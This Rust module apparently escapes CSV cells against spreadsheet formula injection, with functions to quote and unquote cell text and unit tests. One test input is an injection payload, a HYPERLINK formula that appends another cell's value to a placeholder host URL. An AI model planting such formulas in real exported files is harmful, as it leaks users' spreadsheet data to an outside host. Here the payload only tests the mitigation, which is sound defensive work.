//! Text as a spreadsheet will show it, for every CSV Metadesk writes (run reports, the API
//! console's result tables). Not here: the CSV dialect itself (the `csv` crate's).

/// A cell as a spreadsheet will show it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`. AEM values are written by anyone with DAM access, and
/// Excel and LibreOffice run such a cell as a formula (CSV injection, OWASP); the quote makes
/// both show it as text and is the mitigation OWASP recommends. Quoting for commas and quotes
/// is the csv crate's.
pub fn spreadsheet_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

/// Whether a spreadsheet would run `s` as a formula (its first character).
fn runs_as_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Whether `s` needs a leading `'` to be read back exactly: it would run as a formula, or it
/// starts with `'` before such text (so the quote the person typed survives the reading).
fn needs_quote(s: &str) -> bool {
    runs_as_formula(s) || s.strip_prefix('\'').is_some_and(needs_quote)
}

/// [`spreadsheet_text`] for a file Metadesk reads back (a sheet's CSV): a text `'=x` the
/// person typed also gets its quote, so that [`text_of_spreadsheet_cell`] gives back exactly
/// what was written.
pub fn reversible_spreadsheet_text(s: &str) -> String {
    if needs_quote(s) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

/// The text a cell held before [`reversible_spreadsheet_text`] quoted it: the leading `'` it
/// added goes; any other text is kept as it is (a `'` before plain text is the person's own).
pub fn text_of_spreadsheet_cell(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_cells_read_back_as_they_were() {
        for text in [
            "=HYPERLINK(\"http://x\"&A2,\"click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted by hand",
            "''@twice",
            "'plain",
            "plain",
            "",
        ] {
            assert_eq!(
                text_of_spreadsheet_cell(&reversible_spreadsheet_text(text)),
                text
            );
        }
        assert_eq!(text_of_spreadsheet_cell("'plain"), "'plain");
    }

    #[test]
    fn formula_looking_cells_become_text_and_others_are_kept() {
        for risky in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(spreadsheet_text(risky), format!("'{risky}"));
        }
        assert_eq!(spreadsheet_text("a-b = c"), "a-b = c");
        assert_eq!(spreadsheet_text(""), "");
    }
}
